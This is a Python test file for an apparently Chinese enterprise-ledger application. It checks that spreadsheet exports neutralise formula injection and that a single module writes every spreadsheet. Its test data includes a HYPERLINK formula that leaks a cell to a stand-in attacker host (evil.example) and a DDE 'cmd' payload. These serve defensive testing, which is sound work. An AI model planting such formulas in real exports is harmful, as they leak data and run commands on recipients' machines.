"""Spreadsheets: every exported text is a text cell, never a formula; one module writes them.

Issue 12, defect 5: an enterprise officer set its address to `=HYPERLINK(...)` and the county's
export wrote a live formula.
"""

from __future__ import annotations

import ast
import json
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

import yingji
from yingji.core import roles, spreadsheets
from yingji.core.models import User
from yingji.enterprises import ledger
from yingji.enterprises.models import Enterprise

COUNTY = "140902"
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'
ADDRESS_COLUMN = [column.field for column in ledger.COLUMNS].index("address") + 1
CODE_COLUMN = [column.field for column in ledger.COLUMNS].index("credit_code") + 1


def _sheet(content: bytes) -> Any:
    return load_workbook(BytesIO(content)).active


def _row_of(sheet: Any, credit_code: str) -> int:
    for number in range(2, sheet.max_row + 1):
        if sheet.cell(number, CODE_COLUMN).value == credit_code:
            return number
    raise AssertionError(f"{credit_code} is not in the export")


def _no_formulas(sheet: Any) -> None:
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"


@pytest.fixture
def enterprise(demo: None) -> Enterprise:
    """An enterprise of the county that has its own safety officer."""
    officers = User.objects.filter(role=roles.ENTERPRISE_OFFICER, organization__isnull=False)
    return (
        Enterprise.objects.filter(
            region__path__contains=f"/{COUNTY}/", organization_id__in=officers.values("organization_id")
        )
        .order_by("id")
        .first()
    )


# The writer -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(prefix: str) -> None:
    assert spreadsheets.cell_text(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize("text", ["忻府区长征街 1 号", "A-1", "a=b", "1+1", "'quoted", ""])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheets.cell_text(text) == text


def test_numbers_dates_and_empty_cells_keep_their_types() -> None:
    content = spreadsheets.workbook(
        "t", ["a", "b", "c", "d", "e"], [[-12, -3.5, Decimal("7.25"), None, "-12"]], widths=[10, 10]
    )
    sheet = _sheet(content)
    cells = [sheet.cell(2, column) for column in range(1, 6)]
    assert [cell.value for cell in cells] == [-12, -3.5, 7.25, None, "'-12"]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "s"]
    assert sheet.cell(1, 1).font.b and sheet.freeze_panes == "A2"


def test_control_characters_are_dropped_rather_than_failing_the_file() -> None:
    sheet = _sheet(spreadsheets.workbook("t", ["a"], [["响铃\x07地址\x1b"]]))
    assert sheet.cell(2, 1).value == "响铃地址"


def test_reading_gives_back_the_exported_text() -> None:
    texts = [f"{prefix}SUM(A1)" for prefix in PREFIXES[:4]] + ["'plain", "普通"]
    rows = list(spreadsheets.read_rows(spreadsheets.workbook("t", texts, [texts])))
    assert list(rows[1]) == texts


# Through the real export ------------------------------------------------------------------------------


def test_an_officers_hyperlink_address_reaches_the_countys_export_as_text(
    enterprise: Enterprise, county_admin: User, api_client: Any
) -> None:
    officer = User.objects.get(role=roles.ENTERPRISE_OFFICER, organization_id=enterprise.organization_id)
    changed = api_client(officer).patch(
        f"/api/v1/enterprises/{enterprise.pk}", json.dumps({"address": HYPERLINK}), "application/json"
    )
    assert changed.status_code == 200, changed.content
    sheet = _sheet(api_client(county_admin).get("/api/v1/enterprises/export").content)
    cell = sheet.cell(_row_of(sheet, enterprise.credit_code), ADDRESS_COLUMN)
    assert (cell.value, cell.data_type) == ("'" + HYPERLINK, "s")
    _no_formulas(sheet)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_each_formula_prefix_is_written_as_text_by_the_page_export(
    enterprise: Enterprise, county_admin: User, page_client: Any, prefix: str
) -> None:
    address = f"{prefix}cmd|' /C calc'!A0"
    Enterprise.objects.filter(pk=enterprise.pk).update(address=address, legal_representative=f"{prefix}2+3")
    answer = page_client(county_admin).get("/enterprises/export.xlsx")
    assert answer["Content-Type"] == spreadsheets.CONTENT_TYPE
    sheet = _sheet(answer.content)
    number = _row_of(sheet, enterprise.credit_code)
    assert sheet.cell(number, ADDRESS_COLUMN).value == "'" + address
    assert sheet.cell(number, ADDRESS_COLUMN).data_type == "s"
    _no_formulas(sheet)


def test_an_exported_hyperlink_imports_back_unchanged(enterprise: Enterprise, county_admin: User) -> None:
    Enterprise.objects.filter(pk=enterprise.pk).update(address=HYPERLINK)
    content = ledger.export_workbook(Enterprise.objects.filter(pk=enterprise.pk))
    _header, row = list(spreadsheets.read_rows(content))
    assert row[ADDRESS_COLUMN - 1] == HYPERLINK


# The guard --------------------------------------------------------------------------------------------

SPREADSHEET_LIBRARIES = {"openpyxl", "xlsxwriter", "xlwt", "odf", "pyexcel", "tablib", "pandas"}
WRITER = Path(spreadsheets.__file__).resolve()


def _source_files() -> list[Path]:
    root = Path(yingji.__file__).resolve().parent
    return [
        path
        for path in root.rglob("*.py")
        if "tests" not in path.relative_to(root).parts and "migrations" not in path.relative_to(root).parts
    ]


def _spreadsheet_writing(tree: ast.AST) -> list[str]:
    """Imports of spreadsheet libraries and uses of the csv module's writers, with their lines."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom):
            names = [node.module or ""]
            if node.module == "csv":
                names += [f"csv.{alias.name}" for alias in node.names]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
            names = [f"csv.{node.attr}"]
        else:
            continue
        for name in names:
            if name.split(".")[0] in SPREADSHEET_LIBRARIES or name in ("csv.writer", "csv.DictWriter"):
                found.append(f"line {node.lineno}: {name}")
    return found


def test_no_module_but_the_shared_writer_writes_spreadsheets_itself() -> None:
    files = _source_files()
    offenders = {
        str(path): found
        for path in files
        if path != WRITER and (found := _spreadsheet_writing(ast.parse(path.read_text(encoding="utf-8"))))
    }
    assert not offenders, f"write spreadsheets through yingji.core.spreadsheets: {offenders}"
    assert _spreadsheet_writing(ast.parse(WRITER.read_text(encoding="utf-8")))  # the guard sees imports
    assert len(files) > 100
